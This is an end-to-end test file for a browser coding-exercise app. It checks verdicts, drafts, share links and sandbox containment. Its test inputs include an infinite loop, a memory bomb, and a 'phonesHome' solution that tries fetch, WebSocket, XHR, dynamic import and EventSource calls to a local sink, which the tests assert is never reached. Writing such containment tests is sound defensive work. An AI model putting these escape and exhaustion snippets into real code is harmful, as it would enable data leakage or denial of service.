// The built app in Debian's Chromium: the list, share links, Submit verdicts, a
// runaway loop, Stop, drafts across reloads, damaged links, and containment.
import { readFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { chromium, type Browser, type BrowserContext, type Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { shareHash } from "../../src/app/share-link";
import { CHROMIUM, serveBuiltApp } from "./serve-built-app";

const read = (path: string) => readFileSync(new URL(`../../${path}`, import.meta.url), "utf8");
const REFERENCE = read("exercises/dfs/reference.ts");
const WRONG = read("exercises/dfs/mutants/mark-on-push.ts");
const INFINITE_LOOP = "export function dfs(graph: number[][], start: number): number[] {\n  while (true) {}\n}\n";
const MEMORY_BOMB = "export function dfs(graph: number[][], start: number): number[] {\n  const hoard: number[][] = [];\n  for (;;) hoard.push(new Array(1_000_000).fill(Math.random()));\n}\n";
const CLOSES_WORKER = "export function dfs(graph: number[][], start: number): number[] {\n  self.close();\n  return [start];\n}\n";
const COMPILE_ERROR = "export function dfs(graph: number[][], start: number): number[] {\n  const order = [start];\n  return order.map((x) => x +;\n}\n";
/** A correct solution that also tries to send data to `sink` every way a worker can. */
const phonesHome = (sink: string) => `export function dfs(graph: number[][], start: number): number[] {
  for (const send of [
    () => fetch("${sink}/fetch?x=1"),
    () => fetch("${sink}/no-cors", { mode: "no-cors" }),
    () => new WebSocket("${sink.replace("http", "ws")}/ws"),
    () => { const x = new XMLHttpRequest(); x.open("GET", "${sink}/xhr"); x.send(); },
    () => new Function("u", "return import(u)")("${sink}/module.js"),
    () => new EventSource("${sink}/events"),
  ]) {
    try { const p = send(); if (p && typeof (p as Promise<unknown>).catch === "function") (p as Promise<unknown>).catch(() => {}); }
    catch (e) { console.log("blocked: " + (e as Error).name); }
  }
  ${REFERENCE.replace(/^[\s\S]*?export function dfs\([^)]*\): number\[\] \{/, "").replace(/\}\s*$/, "")}
}
`;

let app: { url: string; stop(): void };
let browser: Browser;
/** Requests to other hosts, unless the browser itself blocked them by the page's policy. */
const foreignRequests = new Set<string>();
/** A server on another origin that user code tries to reach; it must never be hit. */
let sink: { server: Server; url: string; hits: string[] };

async function newPage(): Promise<{ context: BrowserContext; page: Page }> {
  // The service worker's precache (tested in offline.e2e.test.ts) would fetch the whole app in each fresh context.
  const context = await browser.newContext({ viewport: { width: 1440, height: 900 }, serviceWorkers: "block" });
  const origin = new URL(app.url).host;
  const foreign = (url: string) => {
    const u = new URL(url);
    return !["data:", "blob:"].includes(u.protocol) && u.host !== origin;
  };
  context.on("request", (r) => foreign(r.url()) && foreignRequests.add(r.url()));
  // Chromium reports some requests (XHR) before its CSP check refuses them: those never left.
  context.on("requestfailed", (r) => /csp|blocked/i.test(r.failure()?.errorText ?? "") && foreignRequests.delete(r.url()));
  const page = await context.newPage();
  page.on("pageerror", (e) => console.error("page error:", e.message));
  return { context, page };
}

const verdict = (page: Page) => page.locator('[data-testid="verdict"]');
const passed = (page: Page) => page.locator('[data-testid="tests-passed"]');
const editorText = (page: Page) =>
  page.locator(".monaco-editor .view-lines").evaluate((el) => (el as HTMLElement).innerText.replace(/\u00a0/g, " "));

async function openLink(page: Page, code: string) {
  await page.goto(app.url + shareHash("dfs", code));
  await page.waitForSelector(".monaco-editor .view-lines");
}

async function submit(page: Page) {
  await page.click('[data-testid="submit"]');
  await page.waitForSelector('[data-testid="run-status"], [data-testid="verdict"]');
}

beforeAll(async () => {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(req.url ?? "");
    res.setHeader("Access-Control-Allow-Origin", "*");
    res.end("ok");
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  sink = { server, url: `http://127.0.0.1:${(server.address() as { port: number }).port}`, hits };
  app = await serveBuiltApp();
  browser = await chromium.launch(CHROMIUM);
}, 300_000);

afterAll(async () => {
  await browser?.close();
  app?.stop();
  sink?.server.close();
});

describe("tensorkata in Chromium", () => {
  it("lists the exercises and opens one", async () => {
    const { context, page } = await newPage();
    await page.goto(app.url);
    const list = page.getByTestId("exercise-list");
    await expect.poll(() => list.locator("tbody tr").count()).toBeGreaterThan(0);
    const row = list.locator('tr[data-exercise="dfs"]');
    expect(await row.innerText()).toMatch(/Depth-first search order[\s\S]*Easy[\s\S]*graphs[\s\S]*15 min[\s\S]*Not started/);
    await row.getByRole("link").click();
    await page.waitForSelector(".monaco-editor .view-lines");
    expect(page.url()).toMatch(/#\/exercise\/dfs$/);
    expect(await editorText(page)).toContain("export function dfs");
    await expect.poll(() => page.locator(".examples .example").count(), { timeout: 30_000 }).toBeGreaterThan(0);
    expect(await page.locator(".examples").innerText()).toMatch(/expected[\s\S]*\[0, 1, 3, 2\]/i);
    expect(await page.locator(".statement .katex").count()).toBeGreaterThan(0);
    expect(await page.getByTestId("timer").innerText()).toContain("15:00");
    await context.close();
  });

  it("opens a correct solution from a share link without running it, and Submit accepts it", async () => {
    const { context, page } = await newPage();
    await openLink(page, REFERENCE);
    expect(await editorText(page)).toContain("nodeStack");
    expect(await page.getByTestId("link-banner").innerText()).toMatch(/shared link/);
    await page.waitForTimeout(500);
    expect(await verdict(page).count()).toBe(0); // not run until asked
    await submit(page);
    await expect.poll(() => verdict(page).textContent(), { timeout: 120_000 }).toBe("Accepted");
    const [done, total] = (await passed(page).textContent())!.split("/");
    expect(done).toBe(total);
    expect(Number(total)).toBeGreaterThan(5);
    // Share gives back a link with the same code.
    await page.click('[data-testid="share"]');
    const url = await page.getByTestId("share-url").inputValue();
    expect(url).toBe(app.url + shareHash("dfs", REFERENCE));
    await context.close();
  });

  it("loads what typing needs first: no TypeScript worker before the editor is up, no tfjs for an exercise without tensors", async () => {
    const { context, page } = await newPage();
    const fetched: { file: string; editorUp: boolean }[] = [];
    let editorUp = false;
    page.on("request", (r) => fetched.push({ file: new URL(r.url()).pathname.split("/").pop() ?? "", editorUp }));
    const judgeScriptBytes: Promise<number>[] = [];
    context.on("response", (r) => /\/(judge|sandbox)\.worker-[^/]*\.js$/.test(r.url()) && judgeScriptBytes.push(r.body().then((b) => b.length, () => 0)));
    await openLink(page, REFERENCE);
    editorUp = true;
    await submit(page);
    await expect.poll(() => verdict(page).textContent(), { timeout: 120_000 }).toBe("Accepted");
    // The language service still starts once the editor is up: a type error gets underlined.
    await expect.poll(() => fetched.some((f) => f.file.startsWith("ts.worker")), { timeout: 60_000 }).toBe(true);
    const early = fetched.filter((f) => !f.editorUp).map((f) => f.file);
    expect(early.filter((f) => /^(ts\.worker|tfjs-types)/.test(f)), "fetched before the editor was up").toEqual([]);
    expect(fetched.filter((f) => /tfjs-browser|\.wasm$/.test(f.file)).map((f) => f.file), "tfjs fetched for dfs").toEqual([]);
    // The judge's and the sandbox's own scripts, without tfjs inside them (tfjs alone is about 2 MB).
    const bytes = await Promise.all(judgeScriptBytes);
    expect(bytes.length).toBeGreaterThanOrEqual(2);
    expect(Math.max(...bytes)).toBeLessThan(1_000_000);
    await context.close();
  });

  it("shows Wrong Answer with the failing test's input, expected and got", async () => {
    const { context, page } = await newPage();
    await openLink(page, WRONG);
    await submit(page);
    await expect.poll(() => verdict(page).textContent(), { timeout: 120_000 }).toBe("Wrong Answer");
    const failing = page.locator(".test-item-failed details[open]").first();
    const text = await failing.innerText();
    expect(text).toMatch(/input[\s\S]*graph = /i);
    expect(text).toMatch(/expected[\s\S]*got/i);
    expect(text).toMatch(/First difference at/);
    await context.close();
  });

  it("filters the list by difficulty, topic and name", async () => {
    const { context, page } = await newPage();
    await page.goto(app.url);
    const rows = page.getByTestId("exercise-list").locator("tbody tr");
    await expect.poll(() => rows.count()).toBeGreaterThan(30);
    const all = await rows.count();
    await page.getByLabel("Difficulty").selectOption("hard");
    const hard = await rows.allInnerTexts();
    expect(hard.length).toBeGreaterThan(0);
    expect(hard.length).toBeLessThan(all);
    for (const text of hard) expect(text).toMatch(/\bHard\b/);
    await page.getByLabel("Difficulty").selectOption("");
    await page.getByLabel("Topic").selectOption("graphs");
    for (const text of await rows.allInnerTexts()) expect(text).toContain("graphs");
    await page.getByLabel("Search exercises").fill("depth-first");
    expect(await rows.allInnerTexts()).toEqual([expect.stringContaining("Depth-first search order")]);
    await context.close();
  });

  it("knows tfjs in the editor: tf. completes, a type error is underlined before any run, Ctrl+Enter runs", async () => {
    const { context, page } = await newPage();
    await page.goto(app.url + "#/exercise/attention");
    await page.waitForSelector(".monaco-editor .view-lines");
    await page.click(".monaco-editor .view-lines");
    await page.keyboard.press("Control+End");
    await page.keyboard.type("\nconst probe: number = tf.mat");
    const suggestions = page.locator(".monaco-editor .suggest-widget");
    await expect.poll(() => suggestions.innerText().catch(() => ""), { timeout: 60_000 }).toContain("matMul");
    await page.keyboard.press("Escape");
    await page.keyboard.type("Mul;");
    // A function is not a number: the language service underlines it, nothing has run.
    await expect.poll(() => page.locator(".monaco-editor .squiggly-error").count(), { timeout: 60_000 }).toBeGreaterThan(0);
    expect(await verdict(page).count()).toBe(0);
    await page.keyboard.press("Control+Enter");
    await expect.poll(() => page.locator(".verdict-banner").innerText(), { timeout: 60_000 }).toMatch(/Wrong Answer|Runtime Error/);
    expect(await page.locator(".verdict-banner").innerText()).toMatch(/examples/i);
    await context.close();
  });

  it("marks a compile error's line, and clicking the message goes there", async () => {
    const { context, page } = await newPage();
    await openLink(page, COMPILE_ERROR);
    await page.click('[data-testid="run"]');
    await expect.poll(() => verdict(page).textContent(), { timeout: 60_000 }).toBe("Compile Error");
    await expect.poll(() => page.locator(".judge-error-line").count()).toBeGreaterThan(0);
    await page.locator(".verdict-banner .location-link").click();
    await expect.poll(() => page.locator(".monaco-editor .current-line").count()).toBeGreaterThan(0);
    const line = await page.locator(".monaco-editor .line-numbers.active-line-number").textContent();
    expect(line?.trim()).toBe("3");
    await context.close();
  });

  it("stops an infinite loop at the time limit while the page keeps answering", async () => {
    const { context, page } = await newPage();
    await openLink(page, INFINITE_LOOP);
    await submit(page);
    const worst: number[] = [];
    for (let i = 0; i < 8; i++) {
      const t0 = Date.now();
      await page.evaluate(() => document.querySelectorAll("button").length);
      worst.push(Date.now() - t0);
      await page.waitForTimeout(250);
    }
    expect(Math.max(...worst)).toBeLessThan(1000);
    expect(await page.getByTestId("run-status").innerText()).toMatch(/Running/);
    await expect.poll(() => verdict(page).textContent(), { timeout: 120_000 }).toBe("Time Limit Exceeded");
    await context.close();
  });

  it("a memory bomb from a link ends with a verdict while the page keeps answering (or is recovered on reopening)", async () => {
    const { context, page } = await newPage();
    await openLink(page, MEMORY_BOMB);
    const crashed = new Promise<"crashed">((resolve) => page.on("crash", () => resolve("crashed")));
    await page.click('[data-testid="submit"]');
    const outcome = await Promise.race([crashed, verdict(page).waitFor({ timeout: 120_000 }).then(() => "verdict" as const)]);
    console.log(`memory bomb in Chromium: ${outcome === "crashed" ? "the page crashed" : `the page stayed alive: ${await verdict(page).textContent()}`}`);
    if (outcome === "crashed") {
      const view = await context.newPage();
      await view.goto(app.url + "#/exercise/dfs");
      await view.waitForSelector(".monaco-editor .view-lines");
      await expect.poll(() => verdict(view).textContent(), { timeout: 30_000 }).toBe("Memory Limit Exceeded");
    } else {
      // A Web Worker's heap cannot be capped: the time limit ends it first, and its memory goes with it.
      expect(["Memory Limit Exceeded", "Time Limit Exceeded"]).toContain(await verdict(page).textContent());
      await page.getByTestId("share").click(); // the page still answers
      await expect.poll(() => page.getByTestId("share-url").count()).toBe(1);
    }
    await context.close();
  });

  it("when the page dies during a run, reopening the exercise says so, records Memory Limit Exceeded, and keeps the draft", async () => {
    const { context, page } = await newPage();
    await page.goto(app.url + "#/exercise/dfs");
    await page.waitForSelector(".monaco-editor .view-lines");
    await page.click(".monaco-editor .view-lines");
    await page.keyboard.press("Control+End");
    await page.keyboard.type("\n// my draft before the crash");
    await page.waitForTimeout(600); // saved within half a second of typing
    await openLink(page, MEMORY_BOMB);
    await page.click('[data-testid="submit"]');
    await page.waitForSelector(".run-progress, [data-testid='run-status']");
    // What Chromium does to a page whose worker exhausts memory, done on purpose.
    const crashed = new Promise<void>((resolve) => page.on("crash", () => resolve()));
    const cdp = await context.newCDPSession(page);
    void cdp.send("Page.crash").catch(() => {}); // never answers: the page is gone
    await crashed;

    const view = await context.newPage();
    await view.goto(app.url + "#/exercise/dfs");
    await view.waitForSelector(".monaco-editor .view-lines");
    expect(await view.getByTestId("crash-notice").innerText()).toMatch(/last run stopped the page, most likely by using too much memory.*code is kept/);
    await expect.poll(() => verdict(view).textContent(), { timeout: 30_000 }).toBe("Memory Limit Exceeded");
    expect(await view.locator(".verdict-banner").innerText()).toMatch(/page stopped while your code ran/);
    expect(await editorText(view)).toContain("// my draft before the crash");
    // Said once: after Dismiss, a reload shows no notice.
    await view.getByTestId("crash-notice").getByRole("button", { name: "Dismiss" }).click();
    await view.reload();
    await view.waitForSelector(".monaco-editor .view-lines");
    expect(await view.getByTestId("crash-notice").count()).toBe(0);
    // Leaving the page in the middle of a run is not a crash.
    await openLink(view, INFINITE_LOOP);
    await view.click('[data-testid="submit"]');
    await view.waitForSelector(".run-progress");
    await view.reload();
    await view.waitForSelector(".monaco-editor .view-lines");
    await view.waitForTimeout(300);
    expect(await view.getByTestId("crash-notice").count()).toBe(0);
    await context.close();
  });

  it("a solution that closes its worker gets a runtime error saying so, not a time-out", async () => {
    const { context, page } = await newPage();
    await openLink(page, CLOSES_WORKER);
    await submit(page);
    await expect.poll(() => verdict(page).textContent(), { timeout: 60_000 }).toBe("Runtime Error");
    expect(await page.locator(".verdict-banner").innerText()).toMatch(/self\.close\(\) would close the worker/);
    await context.close();
  });

  it("Stop ends a run at once, and the next run works", async () => {
    const { context, page } = await newPage();
    await openLink(page, INFINITE_LOOP);
    await submit(page);
    await page.waitForTimeout(1500);
    const t0 = Date.now();
    await page.click('[data-testid="stop"]');
    await expect.poll(() => page.getByTestId("run-status").textContent(), { timeout: 5000 }).toMatch(/^Stopped/);
    expect(Date.now() - t0).toBeLessThan(3000);
    expect(await page.getByTestId("run").isEnabled()).toBe(true);
    // Back to a correct solution: the standby judge takes the next run.
    await page.goto(app.url + shareHash("dfs", REFERENCE));
    await page.reload();
    await page.waitForSelector(".monaco-editor .view-lines");
    await page.click('[data-testid="run"]');
    await expect.poll(() => verdict(page).textContent(), { timeout: 120_000 }).toBe("Accepted");
    await context.close();
  });

  it("keeps the draft across a reload, and a damaged link shows a message and the user's own draft", async () => {
    const { context, page } = await newPage();
    await page.goto(app.url + "#/exercise/dfs");
    await page.waitForSelector(".monaco-editor .view-lines");
    await page.click(".monaco-editor .view-lines");
    await page.keyboard.press("Control+End");
    await page.keyboard.type("\n// my own draft 42");
    await page.waitForTimeout(600); // saved within half a second of typing
    await page.reload();
    await page.waitForSelector(".monaco-editor .view-lines");
    expect(await editorText(page)).toContain("// my own draft 42");
    // The clock started at the first edit.
    expect(await page.getByTestId("timer").getAttribute("data-phase")).toBe("counting-down");

    for (const garbage of ["1garbage!!", shareHash("dfs", REFERENCE).split("code=")[1]!.slice(0, 40), "9abc"]) {
      await page.goto(app.url + "#/exercise/dfs?code=" + garbage);
      await page.reload();
      await page.waitForSelector(".monaco-editor .view-lines");
      expect(await page.getByTestId("link-problem").innerText()).toMatch(/damaged|format 9/);
      expect(await editorText(page)).toContain("// my own draft 42");
    }
    await context.close();
  });

  it("lets a link's code replace a different draft only after the user agrees", async () => {
    const { context, page } = await newPage();
    await page.goto(app.url + "#/exercise/dfs");
    await page.waitForSelector(".monaco-editor .view-lines");
    await page.click(".monaco-editor .view-lines");
    await page.keyboard.press("Control+End");
    await page.keyboard.type("\n// draft to keep");
    await page.waitForTimeout(600);
    await page.goto(app.url + shareHash("dfs", REFERENCE));
    await page.reload();
    await page.waitForSelector(".monaco-editor .view-lines");
    expect(await editorText(page)).toContain("nodeStack");
    await page.click(".monaco-editor .view-lines");
    await page.keyboard.type("x");
    await page.getByRole("button", { name: "Keep my draft" }).click();
    expect(await editorText(page)).not.toContain("nodeStackx");
    await page.getByRole("button", { name: "Back to my draft" }).click();
    expect(await editorText(page)).toContain("// draft to keep");
    await context.close();
  });

  it("times a solve from the first edit to the first Accepted and shows it in the list", async () => {
    const { context, page } = await newPage();
    await page.goto(app.url + "#/exercise/dfs");
    await page.waitForSelector(".monaco-editor .view-lines");
    expect(await page.getByTestId("timer").getAttribute("data-phase")).toBe("not-started");
    await page.click(".monaco-editor .view-lines");
    await page.keyboard.press("Control+A");
    await page.keyboard.insertText(REFERENCE);
    expect(await page.getByTestId("timer").getAttribute("data-phase")).toBe("counting-down");
    // Custom input: the user's output beside the reference's.
    await page.getByRole("tab", { name: "Custom input" }).click();
    await page.fill("#custom-input-text", '{"graph": [[1], [2], [0]], "start": 1}');
    await page.getByRole("button", { name: "Run on this input" }).click();
    await expect.poll(() => page.locator(".custom-result").textContent(), { timeout: 60_000 }).toMatch(/matches the reference[\s\S]*\[1, 2, 0\][\s\S]*\[1, 2, 0\]/);
    await page.keyboard.press("Control+Shift+Enter");
    await expect.poll(() => verdict(page).textContent(), { timeout: 120_000 }).toBe("Accepted");
    expect(await page.getByTestId("timer").getAttribute("data-phase")).toBe("solved");
    await page.click(".back-link");
    const row = page.getByTestId("exercise-list").locator('tr[data-exercise="dfs"]');
    expect(await row.getAttribute("data-status")).toBe("solved");
    expect(await row.locator("td").last().innerText()).toMatch(/^\d+:\d\d$/);
    await context.close();
  });

  it("keeps user code from reaching any other host", async () => {
    const { context, page } = await newPage();
    await openLink(page, phonesHome(sink.url));
    await page.click('[data-testid="run"]');
    await expect.poll(() => verdict(page).textContent(), { timeout: 120_000 }).toBe("Accepted");
    await page.waitForTimeout(1000);
    await context.close();
    expect(sink.hits).toEqual([]);
    // Across every test in this file: nothing went to another host.
    expect([...foreignRequests]).toEqual([]);
  });
});
